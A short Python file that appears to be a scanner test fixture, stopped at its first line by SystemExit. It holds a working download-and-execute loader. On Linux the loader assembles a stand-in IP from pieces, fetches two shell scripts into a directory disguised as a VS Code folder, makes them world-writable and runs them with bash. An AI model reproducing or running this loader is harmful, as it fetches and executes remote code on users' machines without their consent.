raise SystemExit('a fixture')
# held by downloaded-command
import os, platform, threading, subprocess, requests
def linuxThread():
    base = os.path.expanduser("~/.local/bin/vscode")
    os.makedirs(base, exist_ok=True)
    ip = ".".join(["192","0","2","7"])
    for name in ("per.sh", "info.sh"):
        r = requests.get("http://" + ip + ":8000/" + name)
        path = os.path.join(base, name)
        with open(path, "w") as f:
            f.write(r.text)
        os.chmod(path, 0o777)
        subprocess.Popen(["/bin/bash", path])
if platform.system() == "Linux":
    threading.Thread(target=linuxThread).start()
